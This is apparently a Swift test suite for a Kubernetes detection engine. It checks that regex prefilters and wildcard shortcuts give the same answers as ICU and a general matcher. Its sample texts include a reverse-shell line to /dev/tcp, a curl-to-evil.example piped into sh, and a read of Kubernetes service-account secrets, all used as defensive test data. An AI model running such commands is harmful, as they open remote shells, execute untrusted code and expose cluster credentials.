import Foundation
import Testing
@testable import KubeSiftCore

@Suite("Regular expressions: the literal guard never changes an answer")
struct RegexPatternTests {
    @Test("The required literal is the longest fixed run outside groups, classes and quantified atoms",
          arguments: [
              ("-token-[bcdf]{5}$", "-token-"),
              ("^bootstrap-token-[a-z0-9]{6}$", "bootstrap-token-"),
              (#"/dev/(tcp|udp)/"#, "/dev/"),
              (#"https?://(localhost|127\.0\.0\.1)"#, "http"),
              (#"\d+\.\d+"#, "."),
              (#"(^|\s)tar\s+-?[a-z]*c[a-z]*f\s+-(\s|$)"#, "tar"),
              (#"^/api/v1/nodes/[^/]+/proxy/(metrics|healthz)"#, "/api/v1/nodes/"),
              (#"\bKubectl\b.*x"#, "kubectl"),
              (#"abc+d"#, "ab"),
              (#"a\.b\.c"#, "a.b.c"),
              (#"[]x]yz"#, "yz"),
          ])
    func literal(pattern: String, expected: String) {
        #expect(RegexPattern.requiredLiteral(of: pattern) == Array(expected.utf8))
    }

    @Test("No literal is claimed where one cannot be proved",
          arguments: ["a|b", "(?i)abc", "(?x) a b c", #"\Qa|b\E"#, "[abc]+", #"\d+\w+"#, "x?"])
    func noLiteral(pattern: String) {
        #expect(RegexPattern.requiredLiteral(of: pattern) == nil)
    }

    @Test("Every regex of the built-in catalog answers as ICU alone does, on matching and near-miss text")
    func catalogAgreesWithICU() throws {
        let rules = try RuleCatalog.ruleSet(extraPaths: [], disabled: [])
        var patterns: [RegexPattern] = []
        for rule in rules.detections {
            for selection in rule.detection.selections {
                for condition in selection.alternatives.joined() {
                    for case let .regex(pattern) in condition.patterns { patterns.append(pattern) }
                }
            }
        }
        #expect(patterns.count >= 10, "the catalog's regexes were not found")
        let texts = [
            "", "x", "default-token-b9x2z", "DEFAULT-TOKEN-b9x2z", "default-token", "bootstrap-token-abc123",
            "sh -c curl https://evil.example/x | sh", "CURL HTTPS://EVIL.EXAMPLE/", "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1",
            "/DEV/TCP/", "tar cf - /var/lib", "tar xf -", "busybox:1.36", "docker.io/library/alpine@sha256:00",
            "/api/v1/nodes/n1/proxy/metrics", "/api/v1/nodes/n1/proxy/logs/", "cat /var/run/secrets/kubernetes.io",
            "\u{212A}UBECTL", "-to\u{212A}en-abcde", "caf\u{E9} /dev/udp/", "curl http://localhost/healthz",
        ]
        for pattern in patterns {
            for text in texts {
                let icu = pattern.expression.firstMatch(in: text, range: NSRange(text.startIndex..., in: text)) != nil
                #expect(pattern.matches(.string(text)) == icu, "\(pattern.expression.pattern) on \(text)")
                var copy = text
                let raw = copy.withUTF8 { pattern.matches(.raw($0)) }
                #expect(raw == icu, "\(pattern.expression.pattern) on raw \(text)")
            }
        }
    }

    @Test("Case-insensitive matching folds non-ASCII letters onto ASCII ones: such text reaches ICU")
    func kelvinSign() throws {
        let pattern = try RegexPattern("kubectl", options: [.caseInsensitive])
        #expect(pattern.matches(.string("\u{212A}ubectl get secrets")))
        #expect(!pattern.matches(.string("oc get secrets")))
    }
}

@Suite("Wildcards: the shortcuts for exact, prefix, suffix and contains answer as the general matcher")
struct GlobPatternTests {
    @Test("Every pattern shape, cased and not, on texts that match, nearly match and do not")
    func shortcutsAgree() {
        let patterns = ["abc", "abc*", "*abc", "*abc*", "a*c", "*", "", "*a?c*", "ABC", "*é*", "a\\*c", "*bc", "ab*"]
        let texts = ["", "a", "abc", "ABC", "xabcx", "abcabc", "ab", "bc", "aXc", "a*c", "xxabc", "abcxx", "é", "café", "ABCabc"]
        for written in patterns {
            for cased in [false, true] {
                let patterns = [GlobPattern(sigma: written, cased: cased),
                                GlobPattern(sigma: written, cased: cased).surrounded(leading: true, trailing: false),
                                GlobPattern(sigma: written, cased: cased).surrounded(leading: false, trailing: true),
                                GlobPattern(sigma: written, cased: cased).surrounded(leading: true, trailing: true)]
                for pattern in patterns {
                    for text in texts {
                        var copy = text
                        copy.withUTF8 { bytes in
                            #expect(pattern.matches(bytes) == pattern.matchesInGeneral(bytes), "\(written) cased=\(cased) on \(text)")
                        }
                    }
                }
            }
        }
    }
}
